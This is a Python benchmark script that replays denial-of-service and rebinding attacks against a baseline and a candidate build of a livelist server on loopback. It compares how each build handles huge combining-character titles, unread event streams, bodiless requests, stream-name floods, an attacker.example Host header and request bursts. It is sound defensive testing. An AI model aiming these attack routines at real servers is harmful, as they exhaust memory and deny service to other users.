#!/usr/bin/env python3
"""Replays denial-of-service and sign-in attacks against two livelist builds, a baseline and a candidate, in
one run: on 127.0.0.x only, each attack bounded in time, every process it starts stopped again.

The first eight run against a fresh server (default settings, demo lists on, its own empty data folder)
of each build's livelist binary, and measure:
  long-title    the POST status of an add action whose title is one character: "a" and 4,000,000
                combining acute accents (U+0301), an 8 MB body; then the bytes of GET /lists/todo
  reset-streams the server's resident memory (VmRSS) before and with 40 unread event streams asking
                for a reset (Last-Event-ID: x) of a 4 MB JSON list, their sockets' buffers kept small
  body-budget   the status of a small PUT while 8 GETs announce Content-Length: 8388608 and send no
                body (64 MiB, the default body budget); and what those GETs got back within 2 s
  names         resident memory before and after 500,000 random stream names, 32 per GET /events
                (the connection closed once the answer's head arrived); capped at 120 s
  rebinding     the status of a loopback PUT and of GET /metrics that carry Host (and Origin)
                attacker.example:PORT, as a DNS-rebinding page would send them
  canonical     the answer to a PUT turning a cell's "é" (U+00E9) into "e" + U+0301: ops and version
  toggles       the list versions made by 2,000 toggle actions sent as fast as possible on one
                keep-alive connection, with the count of 204 / 429 / other answers and the seconds
                (capped at 60 s)
  visibility    the median time of 500 visibility reports about the last cell of a 100,000-cell list
                (one keep-alive connection): whether one report scans the whole list
Those of "hostile input, round three" start what they need themselves (servers with flags, nginx, the
Board example, PostgreSQL databases); their docstrings say what each does and measures:
  Benchmarks/Scripts/_replay_round_three.py  keyed-actions, proxy-flood, tokenless-stream, read-cookie, account-pace,
                                 visibility-batch, large-patch
  Benchmarks/Scripts/_replay_board.py        logout-flood, revocation-flood, planted-session, password-timing
The Board attacks need each build's Examples/Board binary (found beside a livelist binary built in a
checkout, .build/release/livelist -> Examples/Board/.build/release/board, or given); revocation-flood
needs a PostgreSQL (Scripts/with-postgres.sh exports it) and makes a database per build there; the
proxy attacks need nginx. An attack that cannot run on a build says why in its cell.

It prints the builds (binary and commit), one table (attack, measure, baseline, candidate), then one
line of notes per attack and build. A failing attack prints its error in its row (the traceback on
standard error) and the others go on; the script exits 0 when it ran, as this is a measurement, not a
test.

Usage: Scripts/with-postgres.sh Benchmarks/run replay-attacks --baseline PATH --candidate PATH [--only NAME ...]
Either binary may be left out (then its column is too).
"""
import argparse
import http.client
import json
import os
import random
import select
import socket
import subprocess
import sys
import threading
import time
import traceback

import _replay_board as replay_board  # beside this script
import _replay_round_three as replay_round_three
from livelist_tools import HOST, Server, request
from livelist_tools.replay import TIMEOUT, Target, action_headers, list_version, put_json, raw_exchange, rss_mb, session, status_line


# --- The attacks -----------------------------------------------------------------------------------
# Each takes a started Server and returns ({measure: value}, notes); the measures are the labels
# declared for it in ATTACKS.

def long_title(server):
    """An add action whose title is one grapheme of 8 MB, then the size of the page that shows it."""
    cookie, token, before = session(server.port)
    text = "a" + "\u0301" * 4_000_000
    body = json.dumps({"type": "add", "text": text}, ensure_ascii=False).encode()
    head = (f"POST /lists/todo/actions HTTP/1.1\r\nHost: {HOST}:{server.port}\r\n"
            f"Content-Type: application/json\r\nCookie: {cookie}\r\nX-CSRF-Token: {token}\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n").encode()
    began = time.monotonic()
    answer = raw_exchange(server.port, head, body, timeout=90)
    seconds = time.monotonic() - began
    time.sleep(0.5)
    status, _, page = request(server.port, "GET", "/lists/todo", timeout=90)
    code = answer.split(" ")[1] if answer.startswith("HTTP/") else answer
    return ({"page bytes after an 8 MB one-character title": f"{len(page):,}",
             "POST status": code},
            f"POST ({len(body):,} bytes): {answer} in {seconds:.1f} s; page {before:,} bytes before, "
            f"{len(page):,} after (GET {status})")


def reset_streams(server):
    """40 event streams asking for a reset of a 4 MB list, never read, on small receive buffers."""
    document = {"sections": [{"id": "s", "cells": [
        {"id": f"c{i}", "text": f"{i:06d} " + "x" * 1000, "detail": None} for i in range(4000)]}]}
    status, _ = put_json(server.port, "big", document, timeout=60)
    if status not in (200, 201):
        raise RuntimeError(f"PUT /lists/big answered {status}")
    time.sleep(1)
    before = rss_mb(server.process.pid)
    sockets = []
    try:
        for _ in range(40):
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.settimeout(10)
            sock.connect((HOST, server.port))
            sock.sendall((f"GET /lists/big/events HTTP/1.1\r\nHost: {HOST}:{server.port}\r\n"
                          "Accept: text/event-stream\r\nLast-Event-ID: x\r\n\r\n").encode())
            sockets.append(sock)
        time.sleep(3)
        during = rss_mb(server.process.pid)
    finally:
        for sock in sockets:
            sock.close()
    return ({"RSS before the streams (MB)": f"{before:.0f}",
             "RSS with 40 unread reset streams on a 4 MB list (MB)": f"{during:.0f}"},
            f"PUT big ({len(json.dumps(document)):,} bytes): {status}; {len(sockets)} streams opened")


def body_budget(server):
    """8 GETs announcing 8 MiB bodies that never come, then a small PUT on another connection."""
    sockets = []
    try:
        for _ in range(8):
            sock = socket.create_connection((HOST, server.port), timeout=10)
            sock.sendall((f"GET /healthz HTTP/1.1\r\nHost: {HOST}:{server.port}\r\n"
                          "Content-Length: 8388608\r\n\r\n").encode())
            sockets.append(sock)
        time.sleep(0.5)  # let the server read the heads (and, in the baseline, reserve the bodies)
        status, answer = put_json(server.port, "small",
                                  {"sections": [{"id": "s", "cells": [{"id": "c1", "text": "hello", "detail": None}]}]},
                                  timeout=10)
        # What each GET got back within 2 s: its status line, or nothing.
        got = {sock: b"" for sock in sockets}
        deadline = time.monotonic() + 2
        pending = list(sockets)
        while pending and time.monotonic() < deadline:
            readable, _, _ = select.select(pending, [], [], max(0.0, deadline - time.monotonic()))
            for sock in readable:
                try:
                    data = sock.recv(4096)
                except OSError:
                    data = b""
                got[sock] += data
                if not data or b"\r\n" in got[sock]:
                    pending.remove(sock)
        lines = {}
        for sock in sockets:
            line = status_line(got[sock]) or "nothing"
            lines[line] = lines.get(line, 0) + 1
    finally:
        for sock in sockets:
            sock.close()
    summary = ", ".join(f"{count}x {line}" for line, count in lines.items())
    detail = answer.get("error", {}) if isinstance(answer, dict) else answer
    return ({"PUT status while 8 bodiless GETs announce 8 MiB": str(status)},
            f"PUT: {status}{'' if status in (200, 201) else ' ' + str(detail)[:80]}; GETs within 2 s: {summary}")


def names(server, total=500_000, threads=8, seconds=120):
    """GET /events with 32 random list names each, closed once the head came, until `total` names."""
    before = rss_mb(server.process.pid)
    per_request = 32
    requests_left = [total // per_request]
    sent = [0]
    errors = []
    lock = threading.Lock()
    stop = time.monotonic() + seconds

    def worker(seed):
        generator = random.Random(seed)
        alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
        while time.monotonic() < stop:
            with lock:
                if requests_left[0] <= 0:
                    return
                requests_left[0] -= 1
            query = "&".join("list=" + "".join(generator.choices(alphabet, k=12)) for _ in range(per_request))
            try:
                with socket.create_connection((HOST, server.port), timeout=10) as sock:
                    sock.sendall(f"GET /events?{query} HTTP/1.1\r\nHost: {HOST}:{server.port}\r\n"
                                 f"Accept: text/event-stream\r\n\r\n".encode())
                    head = b""
                    while b"\r\n\r\n" not in head:
                        data = sock.recv(4096)
                        if not data:
                            break
                        head += data
                with lock:
                    sent[0] += per_request
                    if not head.startswith(b"HTTP/1.1 200"):
                        errors.append(status_line(head) or "closed")
            except OSError as error:
                with lock:
                    errors.append(type(error).__name__)

    began = time.monotonic()
    workers = [threading.Thread(target=worker, args=(i,), daemon=True) for i in range(threads)]
    for worker_thread in workers:
        worker_thread.start()
    for worker_thread in workers:
        worker_thread.join(seconds + 30)
    elapsed = time.monotonic() - began
    time.sleep(2)
    after = rss_mb(server.process.pid)
    odd = ""
    if errors:
        kinds = {}
        for error in errors:
            kinds[error] = kinds.get(error, 0) + 1
        odd = "; not 200: " + ", ".join(f"{count}x {kind}" for kind, count in kinds.items())
    return ({"RSS before the names (MB)": f"{before:.0f}",
             "RSS after N random stream names (MB)": f"{after:.0f}",
             "names sent (N)": f"{sent[0]:,}"},
            f"{sent[0]:,} names in {sent[0] // per_request:,} requests, {elapsed:.0f} s{odd}")


def rebinding(server):
    """A loopback PUT and GET /metrics naming a foreign host, as after a DNS rebinding."""
    foreign = f"attacker.example:{server.port}"
    body = json.dumps({"sections": [{"id": "s", "cells": [{"id": "c1", "text": "pwned", "detail": None}]}]})
    put, _, _ = request(server.port, "PUT", "/lists/rebind", body,
                        {"Host": foreign, "Origin": "http://" + foreign, "Content-Type": "application/json"})
    metrics, _, _ = request(server.port, "GET", "/metrics", headers={"Host": foreign})
    return ({"status of a rebinding PUT (and /metrics)": f"{put} ({metrics})"},
            f"PUT /lists/rebind with Host {foreign}: {put}; GET /metrics: {metrics}")


def canonical(server):
    """A PUT that changes "é" (one code point) into "e" + U+0301 (two), canonically equivalent."""
    def document(text):
        return {"sections": [{"id": "s", "cells": [{"id": "c1", "text": text, "detail": None}]}]}

    first_status, first = put_json(server.port, "canon", document("\u00e9"))
    second_status, second = put_json(server.port, "canon", document("e\u0301"))
    if not isinstance(first, dict) or not isinstance(second, dict) or "ops" not in second:
        raise RuntimeError(f"PUTs answered {first_status} and {second_status}: {str(second)[:120]}")
    ops = second["ops"]
    kinds = ", ".join(str(op.get("op", op.get("type", "?"))) if isinstance(op, dict) else str(op) for op in ops)
    moved = second.get("version") != first.get("version")
    return ({"ops of a PUT changing é into e+U+0301": f"{len(ops)} ({'new version' if moved else 'same version'})"},
            f"PUTs: {first_status}, {second_status}; version {first.get('version')} -> {second.get('version')}; "
            f"ops: [{kinds}]")


def toggles(server, count=2000, seconds=60):
    """2,000 toggles of one cell on one keep-alive connection, as fast as answers come."""
    cookie, token, _ = session(server.port)
    before = list_version(server.port, "todo")
    headers = action_headers(cookie, token)
    body = json.dumps({"type": "toggle", "cell": "2"})
    counts = {"204": 0, "429": 0, "other": 0}
    others = {}
    reconnects = 0
    connection = http.client.HTTPConnection(HOST, server.port, timeout=TIMEOUT)
    stop = time.monotonic() + seconds
    began = time.monotonic()
    sent = 0
    try:
        while sent < count and time.monotonic() < stop:
            sent += 1
            try:
                connection.request("POST", "/lists/todo/actions", body=body, headers=headers)
                response = connection.getresponse()
                response.read()
                status = response.status
            except (http.client.HTTPException, OSError) as error:
                # The server closed the connection: count it, and reconnect.
                connection.close()
                connection = http.client.HTTPConnection(HOST, server.port, timeout=TIMEOUT)
                reconnects += 1
                status = type(error).__name__
            key = str(status) if str(status) in counts else "other"
            counts[key] += 1
            if key == "other":
                others[status] = others.get(status, 0) + 1
    finally:
        connection.close()
    elapsed = time.monotonic() - began
    time.sleep(0.5)
    after = list_version(server.port, "todo")
    other = "" if not others else " (" + ", ".join(f"{n}x {s}" for s, n in others.items()) + ")"
    return ({"versions made by 2,000 toggles in a burst": str(after - before),
             "answers 204 / 429 / other": f"{counts['204']} / {counts['429']} / {counts['other']}",
             "seconds": f"{elapsed:.1f}"},
            f"{sent} toggles in {elapsed:.1f} s: {counts['204']}x 204, {counts['429']}x 429, "
            f"{counts['other']}x other{other}; {reconnects} reconnects; version {before} -> {after}")


def visibility(server, cells=100_000, reports=500):
    """Visibility reports about the last cell of a 100,000-cell list, one after another on one
    keep-alive connection: what one report costs the server (a scan of the whole list, or not)."""
    document = {"sections": [{"id": "s", "cells": [{"id": f"c{index}", "text": "x"} for index in range(cells)]}]}
    status, _ = put_json(server.port, "long", document, timeout=300)
    if status not in (200, 201):
        raise RuntimeError(f"PUT of {cells:,} cells answered {status}")
    cookie, token, _ = session(server.port)
    headers = action_headers(cookie, token)
    body = json.dumps({"type": "visible", "cell": f"c{cells - 1}"})
    connection = http.client.HTTPConnection(HOST, server.port, timeout=TIMEOUT)
    timings = []
    statuses = {}
    try:
        for _ in range(reports):
            began = time.perf_counter()
            connection.request("POST", "/lists/long/actions", body=body, headers=headers)
            response = connection.getresponse()
            response.read()
            timings.append(time.perf_counter() - began)
            statuses[response.status] = statuses.get(response.status, 0) + 1
    finally:
        connection.close()
    timings.sort()
    median = timings[len(timings) // 2] * 1000
    return ({"ms per visibility report on a 100,000-cell list (median)": f"{median:.2f}"},
            f"{reports} reports: " + ", ".join(f"{n}x {s}" for s, n in sorted(statuses.items())))


# (name, function, measures shown in the table; the first one carries an error)
ATTACKS = [
    ("long-title", long_title, ["page bytes after an 8 MB one-character title", "POST status"]),
    ("reset-streams", reset_streams, ["RSS with 40 unread reset streams on a 4 MB list (MB)", "RSS before the streams (MB)"]),
    ("body-budget", body_budget, ["PUT status while 8 bodiless GETs announce 8 MiB"]),
    ("names", names, ["RSS after N random stream names (MB)", "RSS before the names (MB)", "names sent (N)"]),
    ("rebinding", rebinding, ["status of a rebinding PUT (and /metrics)"]),
    ("canonical", canonical, ["ops of a PUT changing é into e+U+0301"]),
    ("toggles", toggles, ["versions made by 2,000 toggles in a burst", "answers 204 / 429 / other", "seconds"]),
    ("visibility", visibility, ["ms per visibility report on a 100,000-cell list (median)"]),
]


ROUND_THREE = replay_round_three.ATTACKS + replay_board.ATTACKS


def run_attack(target, attack):
    """Runs one attack against `target`, on a fresh server of its binary for the first eight:
    ({measure: value}, notes). Never raises."""
    name, function, measures = attack
    server = None
    try:
        if attack in ROUND_THREE:
            return function(target)
        server = Server(target.binary)
        values, notes = function(server)
        if server.process.poll() is not None:
            notes += f"; the server exited ({server.process.returncode})"
        return values, notes
    except Exception as error:  # one attack failing must not stop the others
        traceback.print_exc()
        exited = ""
        if server is not None and server.process.poll() is not None:
            exited = f" (the server exited: {server.process.returncode})"
        message = f"error: {type(error).__name__}: {error}"[:110] + exited
        return {measures[0]: message}, message
    finally:
        if server is not None:
            server.close()


def board_beside(binary):
    """The Board binary of the checkout that built `binary` (CHECKOUT/.build/CONFIG/livelist), if built."""
    parts = os.path.abspath(binary).split(os.sep)
    if ".build" not in parts:
        return None
    checkout = os.sep.join(parts[:parts.index(".build")])
    board = os.path.join(checkout, "Examples", "Board", ".build", "release", "board")
    return board if os.path.exists(board) else None


def commit_of(binary):
    """The commit checked out where `binary` lies (best effort), with "+changes" when the tree differs."""
    folder = os.path.dirname(os.path.abspath(binary))
    try:
        head = subprocess.run(["git", "-C", folder, "log", "-1", "--format=%h %s"], capture_output=True, text=True, timeout=10)
        dirty = subprocess.run(["git", "-C", folder, "status", "--porcelain", "--untracked-files=no"],
                               capture_output=True, text=True, timeout=10)
    except OSError:
        return "?"
    return (head.stdout.strip()[:70] or "?") + (" (+changes)" if dirty.stdout.strip() else "")


def print_table(rows, columns):
    """Plain text, aligned columns."""
    table = [["attack", "measure", *columns]] + rows
    widths = [max(len(row[i]) for row in table) for i in range(len(table[0]))]
    for index, row in enumerate(table):
        print("  ".join(cell.ljust(width) for cell, width in zip(row, widths)).rstrip())
        if index == 0:
            print("  ".join("-" * width for width in widths))


def main():
    parser = argparse.ArgumentParser(
        description=__doc__.rsplit("\n\nUsage", 1)[0],
        formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--baseline", help="the livelist binary before the fix")
    parser.add_argument("--candidate", help="the livelist binary after the fix")
    parser.add_argument("--baseline-board", help="the baseline's Examples/Board binary (default: beside --baseline)")
    parser.add_argument("--candidate-board", help="the candidate's Examples/Board binary (default: beside --candidate)")
    parser.add_argument("--database-url", default=os.environ.get("LIVELIST_TEST_DATABASE_URL"),
                        help="a PostgreSQL to make databases in (default: $LIVELIST_TEST_DATABASE_URL, as Scripts/with-postgres.sh sets)")
    parser.add_argument("--psql", default=os.environ.get("LIVELIST_TEST_PSQL") or "psql", help="the psql client")
    everything = ATTACKS + ROUND_THREE
    parser.add_argument("--only", nargs="+", metavar="NAME", choices=[a[0] for a in everything],
                        help="run only these attacks")
    args = parser.parse_args()
    targets = [Target(label, path, board or board_beside(path), args.database_url, args.psql)
               for label, path, board in (("baseline", args.baseline, args.baseline_board),
                                          ("candidate", args.candidate, args.candidate_board)) if path]
    if not targets:
        parser.error("give --baseline, --candidate or both")
    attacks = [attack for attack in everything if not args.only or attack[0] in args.only]

    rows = []
    notes = []
    for attack in attacks:
        results = {}
        for target in targets:
            print(f"{attack[0]}: {target.label}...", file=sys.stderr, flush=True)
            began = time.monotonic()
            results[target.label] = run_attack(target, attack)
            print(f"{attack[0]}: {target.label} done in {time.monotonic() - began:.0f} s", file=sys.stderr, flush=True)
        for measure in attack[2]:
            rows.append([attack[0], measure, *(results[target.label][0].get(measure, "-") for target in targets)])
        for target in targets:
            notes.append(f"{attack[0]} ({target.label}): {results[target.label][1]}")

    for target in targets:
        print(f"{target.label}: {target.binary} at {commit_of(target.binary)}; board: {target.board or 'none'}")
    print()
    print_table(rows, [target.label for target in targets])
    print()
    for line in notes:
        print(line)
    return 0


if __name__ == "__main__":
    sys.exit(main())
